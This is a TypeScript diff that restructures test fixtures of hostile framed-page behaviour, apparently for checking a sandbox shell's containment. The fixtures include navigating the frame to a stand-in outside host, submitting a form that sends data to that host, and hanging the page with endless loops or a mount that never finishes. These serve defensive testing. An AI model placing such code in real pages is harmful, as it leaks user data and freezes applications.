@@ -1,10 +1,10 @@
 import type { FrameAttack } from './frame-attack';
 
-type Tried = Omit<FrameAttack, 'outcome'>;
-
-const navigates: readonly Tried[] = [
+/** Replaces the page of the frame by another page. */
+export const navigatingAttacks: readonly FrameAttack[] = [
   {
     what: 'opens another site in its frame',
+    outcome: 'ended',
     attempt: async () => {
       location.href = 'https://ajena.example/?dato=1';
       return 'passes';
@@ -12,6 +12,7 @@ const navigates: readonly Tried[] = [
   },
   {
     what: 'opens the frame of another remote in its frame',
+    outcome: 'ended',
     attempt: async () => {
       location.href = '/sandbox/catalogue';
       return 'passes';
@@ -19,6 +20,7 @@ const navigates: readonly Tried[] = [
   },
   {
     what: 'opens an empty page in its frame',
+    outcome: 'ended',
     attempt: async () => {
       location.href = 'about:blank';
       return 'passes';
@@ -26,6 +28,7 @@ const navigates: readonly Tried[] = [
   },
   {
     what: 'sends data away by a form',
+    outcome: 'ended',
     attempt: async () => {
       const form = document.createElement('form');
       form.action = 'https://ajena.example/?dato=1';
@@ -44,30 +47,22 @@ export const endlessAttack: FrameAttack = {
   outcome: 'ended',
 };
 
-const hangs: readonly Tried[] = [
+/** Ends after the longest silence that the shell allows. */
+export const hangingAttacks: readonly FrameAttack[] = [
+  endlessAttack,
   {
     what: 'runs without end in small steps',
+    outcome: 'ended',
     attempt: async () => {
       for (;;) await Promise.resolve();
     },
   },
   {
     what: 'never finishes its mount',
+    outcome: 'ended',
     isInMount: true,
     attempt: () => new Promise(() => undefined),
   },
-];
-
-/** Replaces the page of the frame by another page. */
-export const navigatingAttacks: readonly FrameAttack[] = navigates.map((attack) => ({
-  ...attack,
-  outcome: 'ended',
-}));
-
-/** Ends after the longest silence that the shell allows. */
-export const hangingAttacks: readonly FrameAttack[] = [
-  endlessAttack,
-  ...hangs.map((attack) => ({ ...attack, outcome: 'ended' as const })),
 ];
 
 export const neverUnmounts: FrameAttack = {
